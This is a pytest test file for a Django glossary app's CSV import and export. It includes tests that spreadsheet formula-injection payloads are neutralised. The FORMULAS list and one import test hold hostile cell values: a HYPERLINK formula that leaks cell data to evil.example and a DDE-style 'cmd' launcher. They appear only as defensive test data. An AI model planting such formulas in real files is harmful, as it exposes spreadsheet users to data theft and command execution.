"""The glossary: terms in three languages, read by QA through entries(), exchanged as CSV all-or-nothing."""

import csv
import io

import pytest
from django.utils import translation

from locales.glossary import (
    FORMULA_STARTS,
    GlossaryEntry,
    GlossaryImportError,
    entries,
    export_csv,
    import_csv,
)
from locales.models import GlossaryTerm


@pytest.fixture(autouse=True)
def _english():
    """Messages are asserted in English, whatever the catalogues say."""
    with translation.override("en"):
        yield


HEADER = "term_vi,term_en,term_uk,part_of_speech,note_vi,note_en,note_uk,do_not_translate\r\n"


@pytest.fixture
def terms(db):
    return [
        GlossaryTerm.objects.create(
            term_vi="chuyển đổi số",
            term_en="digital transformation",
            term_uk="цифрова трансформація",
            part_of_speech=GlossaryTerm.PartOfSpeech.NOUN,
            note_vi="Luôn dịch đầy đủ",
            note_en="Always in full",
        ),
        GlossaryTerm.objects.create(term_vi="Petrovietnam", do_not_translate=True),
    ]


def test_entries_give_source_translations_and_do_not_translate(terms):
    assert entries() == [
        GlossaryEntry(
            source="chuyển đổi số",
            translations={"en": "digital transformation", "uk": "цифрова трансформація"},
            do_not_translate=False,
        ),
        GlossaryEntry(source="Petrovietnam", translations={}, do_not_translate=True),
    ]


def test_csv_round_trip_restores_every_column(terms):
    exported = io.StringIO()
    assert export_csv(exported) == 2
    text = exported.getvalue()
    assert text.startswith("\ufeff" + HEADER)
    GlossaryTerm.objects.all().delete()

    result = import_csv(text.encode("utf-8"))

    assert (result.created, result.updated, result.unchanged) == (2, 0, 0)
    restored = GlossaryTerm.objects.get(term_vi="chuyển đổi số")
    assert (restored.term_en, restored.term_uk, restored.part_of_speech) == (
        "digital transformation",
        "цифрова трансформація",
        "noun",
    )
    assert (restored.note_vi, restored.note_en, restored.note_uk) == ("Luôn dịch đầy đủ", "Always in full", "")
    assert GlossaryTerm.objects.get(term_vi="Petrovietnam").do_not_translate is True
    again = io.StringIO()
    export_csv(again)
    assert again.getvalue() == text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "'=1+1",  # looks already neutralised: must come back with its quote
    "''-2",
]


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    return [cell for row in rows[1:] for cell in row]


def test_formulas_are_neutralised_on_export_and_a_round_trip_is_stable(db):
    for number, formula in enumerate(FORMULAS):
        GlossaryTerm.objects.create(term_vi=f"thuật ngữ {number}", term_en=formula, note_uk=formula)
    GlossaryTerm.objects.create(term_vi="=1+2", term_uk="-ing", note_vi="'quoted note")
    exported = io.StringIO()
    export_csv(exported)
    text = exported.getvalue()

    cells = _cells(text)
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]  # no cell a spreadsheet computes
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert {"'=1+2", "'-ing", "'quoted note"} <= set(cells)

    GlossaryTerm.objects.all().delete()
    assert import_csv(text.encode()).created == len(FORMULAS) + 1
    for number, formula in enumerate(FORMULAS):
        term = GlossaryTerm.objects.get(term_vi=f"thuật ngữ {number}")
        assert (term.term_en, term.note_uk) == (formula, formula)
    term = GlossaryTerm.objects.get(term_vi="=1+2")
    assert (term.term_uk, term.note_vi) == ("-ing", "'quoted note")
    again = io.StringIO()
    export_csv(again)
    assert again.getvalue() == text


def test_formulas_imported_from_a_spreadsheet_leave_as_text(db):
    """A file with live formulas (as an attacker would write it) is accepted as text, and the
    download no longer carries them as formulas."""
    data = 'term_vi,term_en,note_en\r\n"=HYPERLINK(""http://evil.example/?""&A1,""x"")",@SUM(1+1),"\t-1+1"\r\n'
    import_csv(data)
    term = GlossaryTerm.objects.get()
    assert (term.term_vi, term.term_en, term.note_en) == (
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "@SUM(1+1)",
        "-1+1",
    )
    exported = io.StringIO()
    export_csv(exported)
    cells = _cells(exported.getvalue())
    assert cells[:2] == ["'" + term.term_vi, "'@SUM(1+1)"]
    assert "'-1+1" in cells


def test_import_updates_existing_terms_case_insensitively_and_keeps_missing_columns(terms):
    result = import_csv("term_vi,term_uk\nChuyển Đổi Số,цифровізація\nPetrovietnam,Petrovietnam\n")

    assert (result.created, result.updated, result.unchanged) == (0, 2, 0)
    term = GlossaryTerm.objects.get(pk=terms[0].pk)
    assert (term.term_vi, term.term_uk, term.term_en) == ("Chuyển Đổi Số", "цифровізація", "digital transformation")
    assert import_csv("term_vi,term_uk\nChuyển Đổi Số,цифровізація\n").unchanged == 1


def test_semicolon_separated_file_with_bom_is_accepted(db):
    data = "\ufeffterm_vi;term_en;do_not_translate\r\nNghị quyết;Resolution;không\r\nVNPT;;có\r\n".encode()

    assert import_csv(io.BytesIO(data)).created == 2
    assert GlossaryTerm.objects.get(term_vi="VNPT").do_not_translate is True
    assert GlossaryTerm.objects.get(term_vi="Nghị quyết").term_en == "Resolution"


def test_malformed_file_is_refused_naming_rows_and_columns_and_writes_nothing(terms):
    data = (
        HEADER
        + "an ninh mạng,cybersecurity,кібербезпека,noun,,,,0\r\n"
        + "chính phủ số,digital government,,gerund,,,,maybe\r\n"
        + ",orphan,,,,,,0\r\n"
        + "an ninh mạng,again,,,,,,0\r\n"
    )

    with pytest.raises(GlossaryImportError) as error:
        import_csv(data)

    messages = error.value.messages
    assert "Row 3, column “part_of_speech”: “gerund” is not a part of speech" in messages[0]
    assert messages[1].startswith("Row 3, column “do_not_translate”: “maybe” is not yes or no")
    assert messages[2] == "Row 4, column “term_vi”: this value is required."
    assert messages[3] == "Row 5, column “term_vi”: “an ninh mạng” is already in row 2."
    assert GlossaryTerm.objects.count() == 2
    assert not GlossaryTerm.objects.filter(term_vi="an ninh mạng").exists()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        ("term_vi\nкібербезпека\n".encode("cp1251"), "The file is not UTF-8 text."),
        ("term_en,term_uk\nx,y\n", "The file has no “term_vi” column."),
        ("term_vi,colour\nx,red\n", "Column 2 is named “colour”, which is not a glossary column"),
        ("term_vi,term_vi\nx,y\n", "Column “term_vi” appears twice."),
        ('term_vi,term_en\n"unclosed,x\n', "is not valid CSV"),
        ("term_vi,term_en\nx,y,z\n", "Row 2 has 3 cells, but the header names only 2 columns."),
        ("term_vi\n" + "x" * 201 + "\n", "Row 2, column “term_vi”: Ensure this value has at most 200 characters"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(db, data, message):
    with pytest.raises(GlossaryImportError) as error:
        import_csv(data)

    assert any(message in text for text in error.value.messages), error.value.messages
    assert not GlossaryTerm.objects.exists()


def test_duplicate_term_is_refused_by_model_validation(terms):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        GlossaryTerm(term_vi="CHUYỂN ĐỔI SỐ").full_clean()
